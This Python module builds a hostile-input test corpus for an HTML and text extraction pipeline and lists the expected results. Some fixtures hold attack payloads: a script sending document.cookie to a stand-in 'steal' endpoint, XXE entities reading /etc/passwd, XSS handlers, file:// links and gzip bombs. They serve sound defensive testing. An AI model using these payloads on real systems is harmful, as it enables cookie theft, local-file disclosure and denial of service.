"""The hostile-input corpus: the committed small files (``tests/fixtures/hostile/``) and the big ones,
generated at test time (a 100 MB page, gzip bombs, a million nested tags, huge lines...).

``build_small_corpus`` is how the committed files were made (``python -m tests.faults.hostile``
rewrites them); ``build_generated_corpus`` writes the big ones into a temporary directory.
"""

from __future__ import annotations

import gzip
import io
import itertools
import json
import random
import struct
import sys
import zlib
from dataclasses import dataclass
from pathlib import Path

HOSTILE_DIR = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"

_EN = ("Officials in the harbour town said on Tuesday that the new ferry service would start in the spring "
       "after months of delays caused by storms, a shortage of engineers and a dispute over the cost of "
       "repairing the old pier. The mayor told reporters that residents had waited long enough and that the "
       "council would publish the timetable next week, together with the fares for students and pensioners.")
_AR = ("قال مسؤولون في المدينة الساحلية يوم الثلاثاء إن خدمة العبارات الجديدة ستبدأ في الربيع بعد أشهر من "
       "التأخير بسبب العواصف ونقص المهندسين والخلاف حول تكلفة إصلاح الرصيف القديم. وقال رئيس البلدية للصحفيين "
       "إن السكان انتظروا بما فيه الكفاية وإن المجلس سينشر الجدول الزمني الأسبوع المقبل مع أسعار التذاكر.")
_HE = ("פקידים בעיר הנמל אמרו ביום שלישי כי שירות המעבורות החדש יתחיל באביב לאחר חודשים של עיכובים שנגרמו "
       "בגלל סערות, מחסור במהנדסים ומחלוקת על עלות תיקון המזח הישן. ראש העיר אמר לכתבים כי התושבים חיכו די "
       "והמועצה תפרסם את לוח הזמנים בשבוע הבא יחד עם המחירים לסטודנטים ולגמלאים.")
_ZH = ("港口城市的官员星期二表示，新的渡轮服务将在春季开始，此前由于风暴、工程师短缺以及修复旧码头费用的争议，"
       "该服务已推迟数月。市长告诉记者，居民们已经等得够久了，市议会将在下周公布时间表以及学生和退休人员的票价。"
       "市议会还表示，新码头将配备无障碍设施，并在夏季增加夜间航班。")
_JA = ("港町の当局者は火曜日、嵐や技術者不足、古い桟橋の修理費用をめぐる対立による数か月の遅れを経て、"
       "新しいフェリーサービスが春に始まると発表した。市長は記者団に対し、住民は十分に待ったと述べ、"
       "議会は来週、学生と年金受給者向けの運賃とともに時刻表を公表すると語った。")
_KO = ("항구 도시의 관리들은 화요일 폭풍과 기술자 부족, 오래된 부두 수리 비용을 둘러싼 분쟁으로 몇 달간 "
       "지연된 끝에 새로운 여객선 서비스가 봄에 시작될 것이라고 밝혔다. 시장은 기자들에게 주민들이 충분히 "
       "기다렸으며 의회가 다음 주에 학생과 연금 수급자를 위한 요금과 함께 시간표를 발표할 것이라고 말했다.")


def _article(title: str, paragraphs: list[str], *, head: str = "", lang: str = "en", charset: str = "utf-8") -> str:
    body = "".join(f"<p>{p}</p>\n" for p in paragraphs)
    return (f'<!DOCTYPE html>\n<html lang="{lang}"><head><meta charset="{charset}"><title>{title}</title>{head}</head>'
            f"<body><nav><a href='/'>Home</a> <a href='/news'>News</a></nav>\n<article><h1>{title}</h1>\n{body}"
            f"</article><footer>Contact us. All rights reserved.</footer></body></html>\n")


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes([x % 256, y % 256, 128]) * 16 for x, y in ((i, i * 3) for i in range(16)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _warc(records: list[tuple[str, str, bytes]], compress: bool) -> bytes:
    """A WARC file of ``(url, date, html bytes)`` response records (each gzipped on its own if compress)."""
    out = io.BytesIO()
    for n, (url, date, html) in enumerate(records):
        http = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: "
                + str(len(html)).encode() + b"\r\n\r\n" + html)
        head = (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {url}\r\nWARC-Date: {date}\r\n"
                f"WARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-{n:012d}>\r\n"
                f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n").encode()
        record = head + http + b"\r\n\r\n"
        out.write(gzip.compress(record, mtime=0) if compress else record)
    return out.getvalue()


def small_corpus() -> dict[str, bytes]:
    """Name -> content of every committed hostile input (all small)."""
    rng = random.Random(20261124)
    files: dict[str, bytes] = {}
    counter = itertools.count(1)

    def en() -> str:  # the English paragraph, unique each time: no two inputs make the same document
        return _EN.replace("harbour town", f"harbour town number {next(counter)}")

    art = _article("Ferry service to start in spring", [en(), en().replace("Tuesday", "Monday")])

    files["empty.html"] = b""
    files["whitespace-only.html"] = b" \n\t\r\n   \n\n\t \r\n" * 20
    files["bom-only.html"] = b"\xef\xbb\xbf"
    files["image.png"] = _png()
    files["png-named-html.html"] = _png()
    files["document.pdf"] = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages "
                             b"/Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    files["program.elf"] = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(rng.randrange(256) for _ in range(2000))
    files["archive.zip"] = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(rng.randrange(256) for _ in range(500))
    files["photo.jpg"] = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(rng.randrange(256) for _ in range(1500))
    files["random-bytes.html"] = bytes(rng.randrange(256) for _ in range(4096))
    files["all-nul.html"] = b"\x00" * 2048
    words = en().split()
    files["nul-bytes.html"] = _article("Nulls between words", [
        " ".join(w + ("\x00" if i % 9 == 0 else "") for i, w in enumerate(words)) for _ in range(2)]).encode()
    files["invalid-utf8.html"] = art.encode().replace(b"Officials", b"Offic\xff\xfeials").replace(
        b"ferry", b"fe\xc3\x28rry").replace(b"storms", b"storms\xed\xa0\x80")
    files["mixed-encodings.html"] = (
        _article("Caf\u00e9 owners \u2013 a mixed page", ["UTF8_PART " + en(), "LATIN1_PART " + en()]).encode()
        .replace(b"LATIN1_PART", "Déjà vu à Montréal — “quoted” ".encode("cp1252"))
        .replace(b"UTF8_PART", "Déjà vu à Montréal — “quoted” ".encode("utf-8")))
    files["latin1-undeclared.txt"] = ("Cafés in Zürich and Montréal\n\n" + en().replace("the", "thé") + "\n\n" + en()).encode("latin-1")
    files["utf16-bom.html"] = b"\xff\xfe" + art.replace('charset="utf-8"', 'charset="utf-16"').encode("utf-16-le")
    files["utf16-no-bom.txt"] = ("Ferry service\n\n" + en() + "\n").encode("utf-16-le")
    files["shift-jis-declared.html"] = _article("港町の新しいフェリー", [_JA, _JA], lang="ja", charset="shift_jis").encode("shift_jis")
    files["wrong-charset-declared.html"] = _article("Wrong charset: café naïve résumé", [en() + " café naïve", en()],
                                                    charset="iso-8859-1").encode("utf-8")
    files["unknown-charset.html"] = _article("Unknown charset", [en(), en()], charset="x-klingon-42").encode()
    files["script-only.html"] = (
        b"<html><head><script src='http://127.0.0.1:9/evil.js'></script></head><body><script>"
        b"fetch('http://127.0.0.1:9/steal?c='+document.cookie); document.write('<p>' + 'injected text '.repeat(500));"
        b"</script><script>var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd');</script></body></html>")
    files["style-only.html"] = b"<html><head><style>body{background:url(http://127.0.0.1:9/x.png)} " + b"p{color:red} " * 200 + b"</style></head><body></body></html>"
    files["index-page.html"] = ("<html><head><title>Site index</title></head><body><h1>All sections</h1><ul>"
                                + "".join(f"<li><a href='/section/{i}'>Section {i}</a></li>" for i in range(300))
                                + "</ul></body></html>").encode()
    files["nav-and-footer-only.html"] = (b"<html><body><header><nav><a href='/'>Home</a> | <a href='/about'>About</a> | "
                                         b"<a href='/login'>Log in</a></nav></header><footer>Copyright 2024. Privacy. "
                                         b"Terms. Cookies.</footer></body></html>")
    files["comments-only.html"] = ("<html><body><!-- " + en() + " --><!-- " + en() + " --></body></html>").encode()
    files["title-only.html"] = b"<html><head><title>Only a title and nothing else at all</title></head><body></body></html>"
    files["unclosed-tags.html"] = ("<html><head><title>Unclosed tags</title><body><div><article><h1>Unclosed tags<p>" + en()
                                   + "<p><b><i>" + en() + "<div><span><p>" + en()).encode()
    files["garbage-markup.html"] = (" ".join(w + rng.choice(["", "<", ">", "</", "<<>>", "&", "&#xZZ;", "&amp", "<!--",
                                                             "]]>", "<p", "\"'", "</div>"]) for w in (en() + " " + en()).split())).encode()
    files["deep-nesting-10k.html"] = ("<html><body>" + "<div>" * 10_000 + f"<p>{en()}</p><p>{en()}</p>"
                                      + "</div>" * 10_000 + "</body></html>").encode()
    files["many-attributes.html"] = ("<html><body><article " + " ".join(f'data-a{i}="{i}"' for i in range(5000))
                                     + f"><h1>Many attributes</h1><p>{en()}</p><p>{en()}</p></article></body></html>").encode()
    files["rtl-arabic.html"] = _article("خدمة العبارات الجديدة تبدأ في الربيع", [_AR, _AR], lang="ar").replace(
        "<html", '<html dir="rtl"', 1).encode()
    files["rtl-hebrew.txt"] = ("שירות המעבורות החדש יתחיל באביב\n\n" + _HE + "\n\n" + _HE + "\n").encode()
    files["bidi-controls.html"] = _article("Bidi \u202eoverride\u202c and isolates", [
        "\u2067" + _AR + "\u2069 " + en() + " \u202e" + _HE + "\u202c \u200f\u200e"]).encode()
    files["cjk-chinese.html"] = _article("港口城市的新渡轮服务将在春季开始", [_ZH, _ZH], lang="zh").encode()
    files["cjk-japanese.txt"] = ("新しいフェリーサービスが春に始まる\n\n" + _JA + "\n\n" + _JA + "\n").encode()
    files["korean.html"] = _article("새로운 여객선 서비스 봄에 시작", [_KO, _KO], lang="ko").encode()
    files["emoji.html"] = _article("Ferry 🚢 news 🎉🎉", [
        " ".join(w + rng.choice(["", "", "🚢", "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇵🇹", "\U0001f9ea"]) for w in en().split())] * 2).encode()
    files["emoji-only.html"] = ("<html><body><p>" + "😀🚢🎉👍🏽" * 300 + "</p></body></html>").encode()
    files["zalgo-combining.html"] = _article("Z̷a̴l̵g̶o̸ text", [
        "".join(c + ("\u0301\u0316\u0337\u0360" if c.isalpha() and rng.random() < 0.3 else "") for c in en()), en()]).encode()
    files["control-chars.txt"] = ("Ferry notes\n\n" + "".join(
        c + (chr(rng.choice([1, 2, 3, 4, 5, 6, 7, 8, 11, 14, 27, 127])) if rng.random() < 0.02 else "")
        for c in en() + "\n\n" + en())).encode()
    files["xxe-entities.xhtml"] = (
        '<?xml version="1.0"?>\n<!DOCTYPE html [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
        '<!ENTITY remote SYSTEM "http://127.0.0.1:9/dtd">\n<!ENTITY a "lol lol lol lol lol lol lol lol lol lol">\n'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">\n'
        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">\n]>\n'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Entities</title></head><body><article>'
        f"<p>&xxe; &remote; &d;</p><p>{en()}</p><p>{en()}</p></article></body></html>\n").encode()
    files["javascript-urls.html"] = _article("Links that must not run", [
        en() + ' <a href="javascript:alert(1)">click</a> <img src=x onerror="alert(2)">',
        en() + ' <a href="file:///etc/shadow">shadow</a> <iframe src="http://127.0.0.1:9/frame"></iframe>'],
        head='<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/redirect"><base href="file:///etc/">').encode()
    files["huge-title.html"] = _article("T" * 40_000, [en(), en()]).encode()
    # JSON Lines: each line is an input of its own.
    good = {"url": "https://hostile.example/jsonl/good", "html": _article("Good line", [en(), en()])}
    lines = [
        json.dumps(good),
        '{"url": "https://hostile.example/jsonl/broken", "html": "<p>unterminated',
        "this is not json at all",
        "[1, 2, 3]",
        "42",
        json.dumps({"url": "https://hostile.example/jsonl/no-body"}),
        json.dumps({"url": "https://hostile.example/jsonl/html-not-string", "html": {"p": en()}}),
        json.dumps({}),
        json.dumps({"url": "https://hostile.example/jsonl/text", "text": "Ferry notes\n\n" + en() + "\n\n" + en(),
                    "fetched_at": "not a date"}),
        json.dumps({"url": "https://hostile.example/jsonl/nul", "html": _article("Escaped NUL \u0000", [en() + "\u0000", en()])}),
        json.dumps({"url": "https://hostile.example/jsonl/surrogate", "text": "Lone surrogate \ud800 " + en() + " " + en()}),
        json.dumps({"url": 12345, "html": _article("URL is a number", [en(), en()])}),
        json.dumps({"url": "file:///etc/passwd", "html": _article("A URL that is a local path", [en(), en()])}),
        json.dumps({"url": "../../../../etc/passwd", "text": "Path traversal as URL\n\n" + en() + "\n\n" + en()}),
        json.dumps({"url": "https://hostile.example/" + "a" * 60_000, "html": _article("Very long URL", [en(), en()])}),
        json.dumps({"url": "https://hostile.example/jsonl/big-fetched-at", "html": _article("Odd date", [en(), en()]),
                    "fetched_at": "99999-12-31T00:00:00Z"}),
    ]
    files["broken-lines.jsonl"] = ("\n".join(lines[:3]) + "\n\n   \n" + "\n".join(lines[3:]) + "\n").encode()
    records = [(f"https://hostile.example/warc/{i}", "2024-03-01T10:00:00Z",
                _article(f"WARC record {i}", [en(), en().replace('ferry', f'ferry {i}')]).encode()) for i in range(3)]
    full = _warc(records, compress=False)
    files["truncated.warc"] = full[: len(full) - len(records[2][2]) // 2]
    fullz = _warc(records, compress=True)
    files["truncated.warc.gz"] = fullz[: len(fullz) - 200]
    files["corrupt.html.gz"] = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(rng.randrange(256) for _ in range(300))
    files["not-gzip.html.gz"] = art.encode()
    return files


def build_small_corpus(directory: Path = HOSTILE_DIR) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, content in small_corpus().items():
        path = directory / name
        path.write_bytes(content)
        paths.append(path)
    return paths


def build_generated_corpus(directory: Path, *, listener_port: int, max_page_bytes: int) -> list[Path]:
    """The big or environment-dependent inputs, written into ``directory`` (never committed)."""
    directory.mkdir(parents=True, exist_ok=True)
    paths: list[Path] = []
    counter = itertools.count(1)

    def en() -> str:
        return _EN.replace("harbour town", f"harbour town generated {next(counter)}")

    def put(name: str, content: bytes) -> None:
        (directory / name).write_bytes(content)
        paths.append(directory / name)

    # 100 MB page (streamed, far above the size cap).
    with (directory / "page-100mb.html").open("wb") as fh:
        fh.write(b"<html><body><article>")
        block = (("<p>" + en() + "</p>\n") * 200).encode()
        for _ in range(100 * 1024 * 1024 // len(block) + 1):
            fh.write(block)
        fh.write(b"</article></body></html>")
    paths.append(directory / "page-100mb.html")
    # gzip bombs: 1 GiB of zeros and of '<p>' in a ~1 MB file (concatenated gzip members).
    for name, unit in (("bomb-zeros.html.gz", b"\x00"), ("bomb-markup.html.gz", b"<p>a")):
        member = gzip.compress(unit * (64 * 1024 * 1024 // len(unit)), compresslevel=9, mtime=0)
        with (directory / name).open("wb") as fh:
            for _ in range(16):
                fh.write(member)
        paths.append(directory / name)
    # gzip bomb inside a WARC response (Content-Encoding: gzip), and a bomb in JSON Lines.
    bomb = gzip.compress(b"<p>" + b"a" * (max_page_bytes * 4), compresslevel=9, mtime=0)
    http = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: "
            + str(len(bomb)).encode() + b"\r\n\r\n" + bomb)
    head = ("WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://hostile.example/warc-bomb\r\n"
            "WARC-Date: 2024-03-01T10:00:00Z\r\nWARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-00000000bomb>\r\n"
            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n").encode()
    put("bomb-in-warc.warc.gz", gzip.compress(head + http + b"\r\n\r\n", mtime=0))
    with gzip.open(directory / "bomb.jsonl.gz", "wb", compresslevel=9) as fh:
        fh.write(b'{"url": "https://hostile.example/jsonl-bomb", "text": "' + b"a" * (max_page_bytes * 3) + b'"}\n')
    paths.append(directory / "bomb.jsonl.gz")
    # A million nested tags: opening tags only (6 MB, under the cap), and opened and closed (11 MB, over it).
    put("nested-million-open.html", b"<html><body>" + b"<div>" * 1_000_000 + (" ".join([en()] * 3)).encode() + b"</body></html>")
    put("nested-million-closed.html", b"<html><body>" + b"<div>" * 1_000_000 + en().encode() + b"</div>" * 1_000_000
        + b"</body></html>")
    # Huge single lines: 8 MB of words without a newline; one 3 MB "word"; 100k attributes on one tag.
    line = (en() + " ").encode()
    put("huge-single-line.txt", line * (8 * 1024 * 1024 // len(line)))
    put("one-huge-word.txt", b"x" * (3 * 1024 * 1024))
    put("attributes-100k.html", ("<html><body><article " + " ".join(f'a{i}="{i}"' for i in range(100_000))
                                 + f"><p>{en()}</p><p>{en()}</p></article></body></html>").encode())
    # Everything that could make a parser fetch something points at a listener the test watches.
    base = f"http://127.0.0.1:{listener_port}"
    put("external-resources.html", _article("External resources must not be fetched", [
        en() + f' <img src="{base}/img.png"> <iframe src="{base}/frame"></iframe> <object data="{base}/obj"></object>',
        en() + f' <video src="{base}/v.mp4" poster="{base}/p.png"></video> <embed src="{base}/embed">'],
        head=(f'<link rel="stylesheet" href="{base}/style.css"><script src="{base}/app.js"></script>'
              f'<style>@import url("{base}/import.css"); body {{ background: url({base}/bg.png) }}</style>'
              f'<meta http-equiv="refresh" content="0;url={base}/refresh"><link rel="canonical" href="{base}/canonical">'
              f'<base href="{base}/base/"><link rel="preload" href="{base}/preload">')).encode())
    return paths


# ----------------------------------------------------------------------------- expected outcomes


@dataclass(frozen=True)
class Outcome:
    """What one hostile input must become: a document whose title or body contains ``text``, or a
    failure recorded with the error code ``failure``."""

    text: str | None = None
    failure: str | None = None
    why: str = ""

    def __post_init__(self) -> None:
        assert (self.text is None) != (self.failure is None), "one outcome: a document or a failure"


def doc(text: str, why: str = "") -> Outcome:
    return Outcome(text=text, why=why)


def fail(code: str, why: str = "") -> Outcome:
    return Outcome(failure=code, why=why)


# One outcome per input: a file's name, or ``name#N`` for the Nth record of a JSON Lines file or a
# WARC (as the producer names them). The English inputs are told apart by their paragraph's
# number ("harbour town number 36").
EXPECTED: dict[str, Outcome] = {
    # nothing to index
    "empty.html": fail("empty"),
    "whitespace-only.html": fail("empty"),
    "bom-only.html": fail("empty", "a byte-order mark and nothing after it"),
    "image.png": fail("binary_content"),
    "png-named-html.html": fail("binary_content", "a PNG whatever its name says"),
    "document.pdf": fail("binary_content"),
    "program.elf": fail("binary_content"),
    "archive.zip": fail("binary_content"),
    "photo.jpg": fail("binary_content"),
    "random-bytes.html": fail("binary_content"),
    "all-nul.html": fail("binary_content"),
    "script-only.html": fail("empty_after_cleaning", "scripts are not text and never run"),
    "style-only.html": fail("empty_after_cleaning"),
    "index-page.html": doc("Section 299", "300 section links under their own <h1>: a listing, whose items are its "
                           "main content (as in WCXB's category and listing pages)"),
    "nav-and-footer-only.html": fail("empty_after_cleaning"),
    "comments-only.html": fail("empty_after_cleaning", "text inside comments is not shown"),
    "title-only.html": fail("empty_after_cleaning"),
    "emoji-only.html": fail("empty_after_cleaning", "no word"),
    "garbage-markup.html": fail("too_short_after_cleaning",
                                "an unclosed <!-- after its fifth word hides the rest, as in a browser: a "
                                "few words are left"),
    "one-huge-word.txt": fail("empty_after_cleaning", "3 MB of one letter: no word"),
    "nested-million-open.html": fail("empty_after_cleaning",
                                     "its text comes after 5 MB of <div>, past GLEANER_MAX_TEXT_CHARS (2,000,000)"),
    # refused before they are queued
    "corrupt.html.gz": fail("refused_at_submit"),
    "not-gzip.html.gz": fail("refused_at_submit", "named .gz, not gzip"),
    "page-100mb.html": fail("refused_at_submit", "over GLEANER_MAX_PAGE_BYTES"),
    "bomb-zeros.html.gz": fail("refused_at_submit", "inflates past the cap"),
    "bomb-markup.html.gz": fail("refused_at_submit", "inflates past the cap"),
    "bomb-in-warc.warc.gz#0": fail("refused_at_submit", "a gzip-encoded HTTP body that inflates past the cap"),
    "bomb.jsonl.gz#1": fail("refused_at_submit", "a line past twice the cap"),
    "nested-million-closed.html": fail("refused_at_submit", "11 MB, over the cap"),
    "truncated.warc#2": fail("refused_at_submit", "the archive ends inside this record"),
    "truncated.warc.gz#2": fail("refused_at_submit", "the archive ends inside this record"),
    # encodings
    "invalid-utf8.html": doc("harbour town number 1"),
    "utf16-bom.html": doc("harbour town number 1"),
    "utf16-no-bom.txt": doc("harbour town number 8"),
    "mixed-encodings.html": doc("harbour town number 4"),
    "latin1-undeclared.txt": doc("harbour town number 6"),
    "wrong-charset-declared.html": doc("harbour town number 9"),
    "unknown-charset.html": doc("harbour town number 11"),
    "shift-jis-declared.html": doc("港町の当局者は火曜日、嵐や技術者不足"),
    "nul-bytes.html": doc("harbour town number 3"),
    "control-chars.txt": doc("harbour town number 28"),
    # markup
    "unclosed-tags.html": doc("harbour town number 15"),
    "deep-nesting-10k.html": doc("harbour town number 20", "10,000 nested <div>: past libxml2's 256 levels"),
    "many-attributes.html": doc("harbour town number 22"),
    "attributes-100k.html": doc("harbour town generated 5", "100,000 attributes on one tag"),
    "huge-title.html": doc("harbour town number 34"),
    "huge-single-line.txt": doc("harbour town generated 4", "8 MB on one line, cut at GLEANER_MAX_TEXT_CHARS"),
    "xxe-entities.xhtml": doc("harbour town number 30", "entities are not expanded, nothing is read"),
    "javascript-urls.html": doc("harbour town number 32"),
    "external-resources.html": doc("harbour town generated 7", "nothing it points at is fetched"),
    # scripts and writing systems
    "rtl-arabic.html": doc("قال مسؤولون في المدينة الساحلية"),
    "rtl-hebrew.txt": doc("פקידים בעיר הנמל אמרו"),
    "bidi-controls.html": doc("harbour town number 24"),
    "cjk-chinese.html": doc("港口城市的官员星期二表示"),
    "cjk-japanese.txt": doc("新しいフェリーサービスが春に始まる"),
    "korean.html": doc("항구 도시의 관리들은 화요일"),
    "emoji.html": doc("Ferry 🚢 news", "its title; emoji sit between the body's words"),
    "zalgo-combining.html": doc("harbour town number 27"),
    # JSON Lines: one input per line (lines 4 and 5 are blank: no input)
    "broken-lines.jsonl#1": doc("harbour town number 36"),
    "broken-lines.jsonl#2": fail("invalid_record", "unterminated string"),
    "broken-lines.jsonl#3": fail("invalid_record", "not JSON"),
    "broken-lines.jsonl#6": fail("invalid_record", "an array"),
    "broken-lines.jsonl#7": fail("invalid_record", "a number"),
    "broken-lines.jsonl#8": fail("invalid_record", "no html or text"),
    "broken-lines.jsonl#9": fail("invalid_record", "html is an object"),
    "broken-lines.jsonl#10": fail("invalid_record", "{}"),
    "broken-lines.jsonl#11": doc("harbour town number 39", "its fetched_at is 'not a date'"),
    "broken-lines.jsonl#12": doc("harbour town number 41", "an escaped NUL"),
    "broken-lines.jsonl#13": doc("harbour town number 43", "a lone surrogate"),
    "broken-lines.jsonl#14": doc("harbour town number 45", "the URL is a number"),
    "broken-lines.jsonl#15": doc("harbour town number 47", "a file:// URL is a name, never opened"),
    "broken-lines.jsonl#16": doc("harbour town number 49", "a path as URL is a name, never opened"),
    "broken-lines.jsonl#17": doc("harbour town number 51", "a 60,000-character URL"),
    "broken-lines.jsonl#18": doc("harbour town number 53", "fetched_at in the year 99999"),
    # WARC records before the cut
    "truncated.warc#0": doc("harbour town number 55"),
    "truncated.warc#1": doc("harbour town number 57"),
    "truncated.warc.gz#0": doc("harbour town number 55"),
    "truncated.warc.gz#1": doc("harbour town number 57"),
}


def expected_key(source: str) -> str:
    """The ``EXPECTED`` key of a page's source (``path/name`` or ``path/name#N``)."""
    path, _, record = source.partition("#")
    return Path(path).name + (f"#{record}" if record else "")


if __name__ == "__main__":  # pragma: no cover - regenerates the committed corpus
    written = build_small_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else HOSTILE_DIR)
    print(f"wrote {len(written)} files")
